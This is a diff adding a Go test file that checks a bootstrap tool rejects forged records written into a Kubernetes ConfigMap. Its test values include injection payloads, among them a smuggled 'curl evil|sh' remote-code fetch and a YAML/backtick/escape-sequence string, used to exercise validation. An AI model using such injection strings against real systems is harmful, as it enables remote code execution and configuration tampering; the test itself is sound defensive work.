@@ -1,0 +1,85 @@
+package bootstrap
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+)
+
+// goodRecord is what an up with every setting writes.
+func goodRecord() Recorded {
+	return Recorded{
+		Account: "123456789012", Region: "us-east-1", Partition: "aws", Cluster: "0a1b2c3d-0000-4000-8000-000000000000", Mode: modeIRSAAndGlobal,
+		Boundary: "arn:aws:iam::123456789012:policy/b", Tags: []string{"team=x"}, PolicyName: "p", UserName: "u", IAMPath: "/x/",
+		SecretNames: []string{"a"}, SecretPrefixes: []string{"prod/"}, KMSKeys: []string{"arn:aws:kms:us-east-1:123456789012:key/1"}, AllowPush: true,
+		GlobalUserSecret: "g", RoleName: "r", ServiceAccount: "sa", OIDCIssuer: "https://oidc.eks.us-east-1.amazonaws.com/id/1",
+		Release: "eso", ReleaseNamespace: "ops",
+	}
+}
+
+// TestRecordIsJudgedLikeFlags: whoever may edit ConfigMaps in the namespace writes the record.
+func TestRecordIsJudgedLikeFlags(t *testing.T) {
+	t.Parallel()
+	const evil = "x\nfence:\n  image: evil\n#`touch pwned`\x1b[2K"
+	for name, test := range map[string]struct {
+		forge func(*Recorded)
+		names string // what the error must name; "": it is legal
+	}{
+		"as an up writes it": {func(*Recorded) {}, ""},
+		"of a teardown in part": {func(r *Recorded) {
+			*r = Recorded{Account: r.Account, Region: r.Region, Partition: r.Partition, Cluster: r.Cluster, Mode: r.Mode}
+		}, ""},
+		"account":               {func(r *Recorded) { r.Account = evil }, "--account"},
+		"no account":            {func(r *Recorded) { r.Account = "" }, "--account"},
+		"region":                {func(r *Recorded) { r.Region = evil }, "--region"},
+		"partition":             {func(r *Recorded) { r.Partition = "aws-cn" }, "partition"},
+		"cluster":               {func(r *Recorded) { r.Cluster = "zzz; curl evil|sh #" }, "cluster"},
+		"mode":                  {func(r *Recorded) { r.Mode = evil }, "mode"},
+		"boundary":              {func(r *Recorded) { r.Boundary = evil }, "--permissions-boundary"},
+		"tag":                   {func(r *Recorded) { r.Tags = []string{evil} }, "--tag"},
+		"a reserved tag":        {func(r *Recorded) { r.Tags = []string{"gen3-bootstrap/owner/x=y"} }, "--tag"},
+		"policy":                {func(r *Recorded) { r.PolicyName = evil }, "--policy-name"},
+		"user":                  {func(r *Recorded) { r.UserName = evil }, "--user-name"},
+		"path":                  {func(r *Recorded) { r.IAMPath = evil }, "--iam-path"},
+		"Secret":                {func(r *Recorded) { r.SecretNames = []string{evil} }, "--secret-name"},
+		"prefix":                {func(r *Recorded) { r.SecretPrefixes = []string{"*"} }, "--secret-prefix"},
+		"KMS key":               {func(r *Recorded) { r.KMSKeys = []string{evil} }, "--kms-key"},
+		"global user's Secret":  {func(r *Recorded) { r.GlobalUserSecret = evil }, "--global-user-secret"},
+		"role":                  {func(r *Recorded) { r.RoleName = evil }, "--role-name"},
+		"ServiceAccount":        {func(r *Recorded) { r.ServiceAccount = evil }, "--service-account"},
+		"issuer":                {func(r *Recorded) { r.OIDCIssuer = "http://evil" }, "issuer"},
+		"release":               {func(r *Recorded) { r.Release = evil }, "--release"},
+		"release's namespace":   {func(r *Recorded) { r.ReleaseNamespace = evil }, "--release-namespace"},
+		"an earlier up's user":  {func(r *Recorded) { e := goodRecord(); e.UserName = evil; r.Earlier = []Recorded{e} }, "--user-name"},
+		"a hundred and one ups": {func(r *Recorded) { r.Earlier = make([]Recorded, 100) }, "101 ups"},
+		"two things":            {func(r *Recorded) { r.UserName, r.RoleName = evil, evil }, "1 other value"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			r := goodRecord()
+			test.forge(&r)
+			text, err := json.Marshal(r)
+			if err != nil {
+				t.Fatal(err)
+			}
+			got, err := parseRecorded(text)
+			switch {
+			case test.names == "" && (err != nil || normal(*got) != normal(r)):
+				t.Errorf("error %v, got %+v", err, got)
+			case test.names != "" && (err == nil || !strings.Contains(err.Error(), test.names)):
+				t.Errorf("error %v does not name %s", err, test.names)
+			case err != nil && strings.ContainsAny(err.Error(), "\x1b\n"):
+				t.Errorf("the error is not printable: %q", err)
+			}
+		})
+	}
+}
+
+func TestRecordThatIsNone(t *testing.T) {
+	t.Parallel()
+	for _, text := range []string{"", "null x", "[]", `{"userName": 1}`, `{"surprise": true}`, strings.Repeat("[", 10_000)} {
+		if got, err := parseRecorded([]byte(text)); err == nil {
+			t.Errorf("%.20q was taken for %+v", text, got)
+		}
+	}
+}
